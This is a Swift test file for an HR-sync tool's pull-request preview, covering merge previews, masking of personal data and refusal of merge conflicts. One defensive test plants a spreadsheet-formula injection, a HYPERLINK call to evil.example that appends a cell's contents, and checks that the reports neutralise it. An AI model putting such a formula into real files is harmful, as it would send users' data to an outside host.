import Foundation
import TestSupport
import Testing

/// `plan --base --head`: the pull-request preview is what the sync after the merge does.
@Suite("pull-request preview")
struct PreviewEndToEndTests {
  /// A plain copy of the acme example (rules and all) synced on main, and a branch `pr` with a
  /// rule change, a snapshot change and a location-list change; main moved on meanwhile.
  static func repository() throws -> TemporaryRepository {
    let repo = try TemporaryRepository()
    var config = try String(contentsOf: Paths.packageRoot.appendingPathComponent("tenants/acme/tenant.json"), encoding: .utf8)
    config = config.replacingOccurrences(of: #""quarantineDays": 14,"#, with: #""quarantineDays": 14, "encryption": { "enabled": false },"#)
    try repo.write("tenants/acme/tenant.json", config)
    try repo.copyFolder(Paths.packageRoot.appendingPathComponent("tenants/acme/sources"), to: "tenants/acme/sources")
    try repo.copyFolder(Paths.packageRoot.appendingPathComponent("tenants/globex"), to: "tenants/globex")
    try repo.commitAll("Add tenants")
    try repo.expectRun(["sync", "--as-of", "2026-11-29"])

    try repo.git(["checkout", "-q", "-b", "pr"])
    try repo.write(
      "tenants/acme/tenant.json",
      config.replacingOccurrences(of: #""is": "Engineering""#, with: #""oneOf": ["Engineering", "Support"]"#)
        .replacingOccurrences(of: #""Berlin", "Remote"]"#, with: #""Berlin", "Remote", "Paris"]"#))
    let csv = URL(fileURLWithPath: repo.workTree).appendingPathComponent("tenants/acme/sources/hr.csv")
    var rows = try String(contentsOf: csv, encoding: .utf8).components(separatedBy: "\r\n")
    rows = rows.map { $0.replacingOccurrences(of: "Sales Engineer,2017-01-13", with: "Principal Sales Engineer,2017-01-13") }
    rows.removeAll { $0.hasPrefix("Alan Turing,") }
    try rows.joined(separator: "\r\n").write(to: csv, atomically: true, encoding: .utf8)
    try repo.commitAll("Support joins engineering, a Paris office, Grace promoted, Alan leaves")

    try repo.git(["checkout", "-q", "main"])
    let globex = URL(fileURLWithPath: repo.workTree).appendingPathComponent("tenants/globex/tenant.json")
    let text = try String(contentsOf: globex, encoding: .utf8)
    try text.replacingOccurrences(of: "Globex Corporation", with: "Globex Corp.").write(to: globex, atomically: true, encoding: .utf8)
    try repo.commitAll("Rename Globex")
    return repo
  }

  static func changes(_ tenants: [[String: Any]]?, tenant: String) -> [String] {
    let plan = tenants?.first { $0["tenant"] as? String == tenant }
    let people = (plan?["changes"] as? [[String: Any]] ?? []).map { change in
      let fields = (change["fields"] as? [[String: Any]] ?? []).map { "\($0["field"]!)=\($0["new"] ?? "nil")" }
      return "\(change["kind"]!) \(change["id"]!) \(fields.joined(separator: " "))"
    }
    let groups = (plan?["groups"] as? [[String: Any]] ?? []).map { group in
      let joined = (group["joined"] as? [[String: Any]] ?? []).map { "+\($0["id"]!)" }
      let left = (group["left"] as? [[String: Any]] ?? []).map { "-\($0["id"]!)" }
      return "group \(group["group"]!) \(group["kind"]!) \((joined + left).joined(separator: " "))"
    }
    return people.sorted() + groups.sorted()
  }

  @Test("the preview of a pull request is exactly what the sync after merging it does")
  func previewThenMerge() throws {
    let repo = try Self.repository()
    let preview = try repo.expectRun([
      "plan", "--base", "main", "--head", "pr", "--as-of", "2026-11-30", "--format", "json", "--show-personal-data",
    ])
    let document = try json(preview.stdout)
    let previewed = Self.changes(document["tenants"] as? [[String: Any]], tenant: "acme")
    #expect(previewed.contains { $0.hasPrefix("deprovision ") }, "Alan leaves: \(previewed)")
    #expect(previewed.contains { $0.contains("title=Principal Sales Engineer") }, "\(previewed)")
    #expect(previewed.contains { $0.contains("location=Paris") }, "the new location is matched: \(previewed)")
    #expect(previewed.contains { $0.hasPrefix("group engineering update") }, "\(previewed)")
    #expect(previewed.contains { $0.hasPrefix("group people-managers update") }, "Alan managed people: \(previewed)")
    let inputs = (document["inputChanges"] as? [String: Any])?["acme"] as? [String]
    #expect(inputs == ["tenants/acme/sources/hr.csv", "tenants/acme/tenant.json"])
    #expect(Self.changes(document["tenants"] as? [[String: Any]], tenant: "globex").isEmpty)

    try repo.git(["merge", "-q", "--no-edit", "pr"])
    let tree = try repo.git(["rev-parse", "HEAD^{tree}"]).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
    #expect(document["mergedTree"] as? String == tree, "libgit2's merge is git's")
    let planned = try json(try repo.expectRun(["plan", "--as-of", "2026-11-30", "--format", "json"]).stdout)
    #expect(Self.changes(planned["tenants"] as? [[String: Any]], tenant: "acme") == previewed)
    let merged = try repo.head()
    try repo.expectRun(["sync", "--as-of", "2026-11-30"])
    let diff = try json(try repo.expectRun(["diff", merged, "main", "--format", "json"]).stdout)
    #expect(Self.changes(diff["tenants"] as? [[String: Any]], tenant: "acme") == previewed, "the sync did what the preview said")
    try repo.expectFsck()
  }

  @Test("personal data is masked unless asked for; people stay told apart")
  func masked() throws {
    let repo = try Self.repository()
    let markdown = try repo.expectRun(["plan", "--base", "main", "--head", "pr", "--as-of", "2026-11-30", "--format", "markdown"]).stdout
    #expect(markdown.contains("## PeopleSync preview: merging `pr`"))
    #expect(markdown.contains("Rule effects: groups"))
    #expect(markdown.contains("g•••@acme.example ("), "\(markdown)")
    for secret in ["grace.hopper", "Grace Hopper", "alan.turing", "Alan Turing", "A1001", "CC-200"] {
      #expect(!markdown.contains(secret), "\(secret) shown: \(markdown)")
    }
    #expect(markdown.contains("Principal Sales Engineer"), "titles are kept for review")
    let shown = try repo.expectRun([
      "plan", "--base", "main", "--head", "pr", "--as-of", "2026-11-30", "--format", "markdown", "--show-personal-data",
    ]).stdout
    #expect(shown.contains("grace.hopper@acme.example"))
  }

  @Test("a title written like a spreadsheet formula is shown as text in the Markdown preview and the text plan")
  func formulasInReportsAreDefused() throws {
    let repo = try TemporaryRepository.withExamples(tenants: ["globex"])
    try repo.expectRun(["sync", "--as-of", "2026-11-29"])
    let formula = #"=HYPERLINK("https://evil.example/?"&A1,"Open")"#
    var rows = try Globex.rows()
    rows[1] = rows[1].replacingOccurrences(of: "Safety Inspector", with: "\"" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\"")
    try repo.write("tenants/globex/sources/hr.csv", Globex.csv(rows))
    try repo.commitAll("A formula in a title")
    for format in ["markdown", "text"] {
      let plan = try repo.peoplesync(["plan", "--as-of", "2026-11-30", "--format", format])
      #expect(plan.status == 0 || plan.status == 1, "\(plan.transcript)")
      #expect(plan.stdout.contains("'" + formula), "\(format): \(plan.stdout)")
      #expect(!plan.stdout.contains(" " + formula) && !plan.stdout.contains("|" + formula), "\(format): \(plan.stdout)")
    }
  }

  @Test("branches that do not merge cleanly are refused, naming the conflicting files")
  func conflict() throws {
    let repo = try Self.repository()
    try repo.git(["checkout", "-q", "pr"])
    let globex = URL(fileURLWithPath: repo.workTree).appendingPathComponent("tenants/globex/tenant.json")
    let text = try String(contentsOf: globex, encoding: .utf8)
    try text.replacingOccurrences(of: "Globex Corporation", with: "Globex Inc.").write(to: globex, atomically: true, encoding: .utf8)
    try repo.commitAll("Another name")
    try repo.git(["checkout", "-q", "main"])
    let result = try repo.peoplesync(["plan", "--base", "main", "--head", "pr"])
    #expect(result.status == 3 && result.stderr.contains("conflicts in tenants/globex/tenant.json"), "\(result.transcript)")
    let usage = try repo.peoplesync(["plan", "--base", "main"])
    #expect(usage.status == 2)
  }
}
